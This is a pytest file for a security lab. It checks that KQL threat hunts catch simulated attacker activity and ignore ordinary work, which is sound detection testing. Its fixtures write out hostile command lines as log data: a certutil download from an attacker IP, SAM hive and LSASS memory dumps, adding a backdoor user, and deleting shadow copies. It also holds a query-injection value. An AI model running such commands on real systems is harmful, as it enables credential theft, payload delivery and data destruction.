"""Every hunt on a real KQL engine: finds what it is for, and stays silent about ordinary work."""

from collections.abc import Iterator
from typing import Any

import pytest

from lab.simulators.kql_store import KqlStore
from shared.kql import let_statements
from shared.playbook.hunts import Hunt, evaluate_hunt, load_hunts

HUNTS = {hunt.id: hunt for hunt in load_hunts()}
UPN = "adele@contoso.example"
OBJECT_ID = "7a6c5f0e-3c51-4f0b-9f1e-0d6f5f0b7a11"
ATTACKER = "203.0.113.7"
PARAMETERS = {
    "userId": OBJECT_ID,
    "userPrincipalName": UPN,
    "accountName": "adele",
    "addresses": [ATTACKER],
}
type Rows = list[dict[str, Any]]


def at(minute: int) -> str:
    return f"2026-11-20T12:{minute:02}:00Z"


def sign_in(minute: int, code: str = "0", country: str = "DE", **more: Any) -> dict[str, Any]:
    base = {
        "TimeGenerated": at(minute),
        "Id": f"{minute}-{code}-{country}",
        "UserId": OBJECT_ID,
        "UserPrincipalName": UPN,
        "ResultType": code,
        "IPAddress": "198.51.100.20" if country == "DE" else ATTACKER,
        "LocationDetails": {"city": "", "countryOrRegion": country},
        "AppDisplayName": "OfficeHome",
    }
    return base | more


def office(operation: str, minute: int = 20, **more: Any) -> dict[str, Any]:
    base = {"TimeGenerated": at(minute), "Operation": operation, "UserId": UPN}
    return base | {"ClientIP": f"{ATTACKER}:4711"} | more


def audit(operation: str, *, target: str = UPN) -> dict[str, Any]:
    return {
        "TimeGenerated": at(20),
        "OperationName": operation,
        "Result": "success",
        "InitiatedBy": {"user": {"userPrincipalName": UPN.upper(), "ipAddress": ATTACKER}},
        "TargetResources": [{"userPrincipalName": target, "displayName": "An app"}],
    }


def logon(device: str, kind: str = "RemoteInteractive") -> dict[str, Any]:
    return {
        "TimeGenerated": at(20),
        "AccountName": "Adele",
        "ActionType": "LogonSuccess",
        "LogonType": kind,
        "DeviceName": device,
        "RemoteIP": "10.0.0.5",
    }


def process(command: str) -> dict[str, Any]:
    return {
        "TimeGenerated": at(20),
        "AccountUpn": UPN,
        "DeviceName": "pc",
        "ProcessCommandLine": command,
    }


def transfer(size: int, user: str = r"CONTOSO\adele") -> dict[str, Any]:
    return {
        "TimeGenerated": at(20),
        "SourceUserName": user,
        "SourceIP": "10.0.0.5",
        "DestinationIP": ATTACKER,
        "SentBytes": size,
    }


def downloads(count: int) -> Rows:
    return [office("FileDownloaded", OfficeObjectId=f"https://x/{i}.docx") for i in range(count)]


FOUND: dict[str, dict[str, Rows]] = {
    "anomalous_places": {"SigninLogs": [sign_in(1), sign_in(2), sign_in(9, country="NG")]},
    "failures_then_success": {
        "SigninLogs": [*(sign_in(i, "50126", "NG") for i in range(6)), sign_in(8, country="NG")]
    },
    "inbox_rules": {
        "OfficeActivity": [
            office("New-InboxRule", Parameters='[{"Name":"MoveToFolder","Value":"RSS Feeds"}]'),
            office("Set-Mailbox", Parameters='[{"Name":"ForwardingSmtpAddress","Value":"x@y"}]'),
        ]
    },
    "large_transfers": {"CommonSecurityLog": [transfer(300_000_000), transfer(300_000_000)]},
    "lateral_movement": {"DeviceLogonEvents": [logon("a"), logon("b", "Network"), logon("c")]},
    "mass_download": {"OfficeActivity": downloads(120)},
    "mfa_method_changes": {"AuditLogs": [audit("User registered security info")]},
    "oauth_consent": {"AuditLogs": [audit("Consent to application", target="")]},
    "role_assignments": {"AuditLogs": [audit("Add member to role")]},
    "sensitive_access": {
        "OfficeActivity": [
            office("FileAccessed", OfficeObjectId="https://x/plan.docx"),
            office(
                "FileAccessed", ClientIP="198.51.100.20", OfficeObjectId="https://x/payroll.xlsx"
            ),
        ]
    },
    "suspicious_commands": {
        "DeviceProcessEvents": [
            process("powershell.exe -nop -enc " + "QQBB" * 20),
            process("certutil.exe -urlcache -split -f http://203.0.113.7/a.exe"),
            process(r"reg.exe save HKLM\SAM c:\temp\s"),
            process("rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 l.dmp full"),
            process("net user helper P4ss /add"),
            process("vssadmin.exe Delete Shadows /all /quiet"),
        ]
    },
}
SILENT: dict[str, Rows] = {
    "SigninLogs": [
        sign_in(1),
        sign_in(2, "50126"),
        sign_in(3),
        sign_in(9, country="NG", UserId="other", UserPrincipalName="other@contoso.example"),
    ],
    "OfficeActivity": [
        office("Set-Mailbox", Parameters='[{"Name":"Language","Value":"de"}]', ClientIP="10.1.1.1"),
        office("FileAccessed", ClientIP="198.51.100.20:52", OfficeObjectId="https://x/menu.docx"),
        office("New-InboxRule", UserId="other@contoso.example"),
        *(office("FileDownloaded", ClientIP="10.1.1.1", OfficeObjectId=f"{i}") for i in range(20)),
    ],
    "AuditLogs": [
        audit("Update user"),
        audit("User registered security info", target="o@contoso.example")
        | {"InitiatedBy": {"user": {"userPrincipalName": "other@contoso.example"}}},
    ],
    "DeviceLogonEvents": [logon("a"), logon("a", "Network"), logon("b")],
    "DeviceProcessEvents": [
        process(r'"C:\Program Files\Microsoft Office\EXCEL.EXE" /e budget.xlsx'),
        process("net use Z: \\\\files\\share"),
        process("powershell.exe -ExecutionPolicy Bypass -File c:\\it\\inventory.ps1"),
        process("git commit -m encoding"),
    ],
    "CommonSecurityLog": [transfer(400_000_000), transfer(900_000_000, user="other")],
}


@pytest.fixture(scope="module")
def store() -> Iterator[KqlStore]:
    yield KqlStore()


def run(store: KqlStore, hunt: Hunt, **parameters: Any) -> Rows:
    result = store.query(let_statements(PARAMETERS | parameters) + hunt.query, None, None)
    names = [column.name for column in result.columns]
    return [dict(zip(names, row, strict=True)) for row in result.rows]


@pytest.mark.parametrize("hunt_id", sorted(HUNTS))
def test_hunt_finds_what_it_is_for(store: KqlStore, hunt_id: str) -> None:
    store.load(FOUND[hunt_id])
    rows = run(store, HUNTS[hunt_id])
    found = evaluate_hunt(HUNTS[hunt_id], rows)
    assert found is not None
    assert all(row["TimeGenerated"] for row in found.rows), "signals compare times"
    expected = next(iter(FOUND[hunt_id].values()))
    if hunt_id in ("inbox_rules", "sensitive_access", "suspicious_commands", "lateral_movement"):
        assert found.count == len(expected)


def test_hunts_are_silent_about_ordinary_work(store: KqlStore) -> None:
    store.load(SILENT)
    found = {hunt_id: run(store, hunt) for hunt_id, hunt in HUNTS.items()}
    assert {hunt_id: rows for hunt_id, rows in found.items() if rows} == {}


@pytest.mark.parametrize("hunt_id", sorted(HUNTS))
def test_hostile_values_stay_values(store: KqlStore, hunt_id: str) -> None:
    store.load(FOUND[hunt_id])
    hostile = '" or 1==1 //\\'
    rows = run(
        store,
        HUNTS[hunt_id],
        userId=hostile,
        userPrincipalName=hostile,
        accountName=hostile,
        addresses=[hostile],
    )
    assert rows == []
